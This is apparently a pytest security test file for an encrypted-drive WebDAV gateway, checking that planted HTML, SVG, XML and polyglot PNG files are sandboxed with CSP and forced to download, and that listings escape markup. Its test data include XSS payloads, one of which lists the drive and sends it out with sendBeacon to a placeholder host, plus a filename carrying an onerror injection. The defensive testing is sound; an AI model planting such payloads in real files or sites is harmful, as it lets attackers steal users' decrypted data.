"""Hostile: a file someone planted in your drive (a sharer's HTML, SVG, or an extension-less file with a
<script>) must never run as a page of the gateway's origin, where its script could read and write the
whole decrypted drive.

Before the fix ``evil.html`` came back as ``text/html`` with no Content-Security-Policy and no
Content-Disposition: opened in a browser, it ran with same-origin access to the drive.
"""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from support.dav import GatewayProcess, href, put, signup  # noqa: E402
from support.server import NO_SIGNUP_LIMIT, ServerProcess  # noqa: E402

SCRIPT = b"<script>fetch('/', {method: 'PROPFIND'}).then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
FILE_CSP = "sandbox; default-src 'none'"
PAGE_CSP = ("default-src 'none'; style-src 'self'; img-src 'self'; frame-ancestors 'none'; base-uri 'none'; "
            "form-action 'none'")
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + SCRIPT

# name -> (content, Content-Type served, Content-Disposition expected or None for inline)
PLANTED = {
    "evil.html": (b"<html><body>" + SCRIPT + b"</script></body></html>", "text/html",
                  "attachment; filename*=UTF-8''evil.html"),
    "evil.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
                 "image/svg+xml", "attachment; filename*=UTF-8''evil.svg"),
    "README": (SCRIPT + b"</script>", "application/octet-stream", "attachment; filename*=UTF-8''README"),
    "page.xhtml": (b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</script></html>",
                   "application/xhtml+xml", "attachment; filename*=UTF-8''page.xhtml"),
    "feed.xml": (b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                 "application/xml", "attachment; filename*=UTF-8''feed.xml"),
    "app.js": (b"alert(1)", "text/javascript", "attachment; filename*=UTF-8''app.js"),
    "été <b>&.htm": (SCRIPT, "text/html", "attachment; filename*=UTF-8''%C3%A9t%C3%A9%20%3Cb%3E%26.htm"),
    "notes.txt": (b"<html>" + SCRIPT + b"</script>", "text/plain", None),
    "photo.png": (PNG, "image/png", None),
}


@pytest.fixture(scope="module")
def content_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    server = ServerProcess(tmp_path_factory.mktemp("content-server") / "data", extra_args=NO_SIGNUP_LIMIT)
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def dav(content_server: ServerProcess, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    acct = signup(content_server.url, tmp_path_factory.mktemp("content"))
    g = GatewayProcess(acct.home)
    try:
        with g.client() as c:
            assert c.request("MKCOL", "/shared").status_code == 201
            for name, (data, _type, _disp) in PLANTED.items():
                put(c, f"/shared/{name}", data)
            put(c, "/shared/report.docx", b"PK\x03\x04 not really a docx")
            put(c, "/shared/<img src=x onerror=alert(1)>.txt", b"a name that is markup")
            yield c
    finally:
        g.stop()


@pytest.mark.parametrize("name", list(PLANTED))
def test_file_content_is_sandboxed_and_active_types_download(dav: httpx.Client, name: str) -> None:
    data, ctype, disposition = PLANTED[name]
    for method, headers, status in (("GET", {}, 200), ("HEAD", {}, 200), ("GET", {"Range": "bytes=0-3"}, 206)):
        r = dav.request(method, href(f"/shared/{name}"), headers=headers)
        assert r.status_code == status, (method, r.status_code)
        assert r.headers["content-type"].split(";")[0] == ctype
        assert r.headers["content-security-policy"] == FILE_CSP
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers.get("content-disposition") == disposition
        assert len(r.headers.get_list("content-security-policy")) == 1
        if method == "GET" and status == 200:
            assert r.content == data  # the bytes are served as they are: only how a browser treats them changes
    etag = dav.head(href(f"/shared/{name}")).headers["etag"]
    r = dav.get(href(f"/shared/{name}"), headers={"If-None-Match": etag})
    assert r.status_code == 304
    assert r.headers["content-security-policy"] == FILE_CSP


def test_folder_listing_runs_no_script(dav: httpx.Client, content_server: ServerProcess) -> None:
    r = dav.get("/shared/")
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/html; charset=utf-8"
    assert r.headers["content-security-policy"] == PAGE_CSP  # no script-src: default-src 'none' forbids all script
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert "content-disposition" not in r.headers
    assert "evil.html" in r.text
    assert "<img src=x onerror" not in r.text and "&lt;img src=x onerror=alert(1)&gt;" in r.text
    assert "<script" not in r.text and " style=" not in r.text  # a plain page: nothing its CSP would block
    assert "Index of" not in r.text and "wsgidav" not in r.text.lower()  # MegaDrive's page, not wsgidav's
    assert dav.get("/:dir_browser/style.css").status_code == 404  # (wsgidav's listing and its assets are gone)
    assert f'The web client (nothing to install) is at <a href="{content_server.url}/" rel="noreferrer">' in r.text
    assert r.headers["referrer-policy"] == "no-referrer"  # the page's URL holds decrypted folder names
    assert '<a href="%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E.txt">' in r.text  # links are quoted too
    r = dav.get("/shared")  # a folder without its slash: sent to it, so the relative links resolve
    assert r.status_code == 301 and r.headers["location"] == "/shared/"
    r = dav.head("/shared/")
    assert r.status_code == 200 and r.content == b"" and r.headers["content-type"] == "text/html; charset=utf-8"
    # Errors are pages too: no script there either.
    r = dav.get("/shared/%3Cscript%3Ealert(1)%3C%2Fscript%3E.html")
    assert r.status_code == 404
    assert r.headers["content-security-policy"] == FILE_CSP
    r = dav.request("PROPFIND", "/nowhere/%3Cscript%3E", headers={"Depth": "0"})
    assert r.status_code == 404
    assert r.headers["content-security-policy"] == PAGE_CSP
    assert r.headers["x-content-type-options"] == "nosniff"
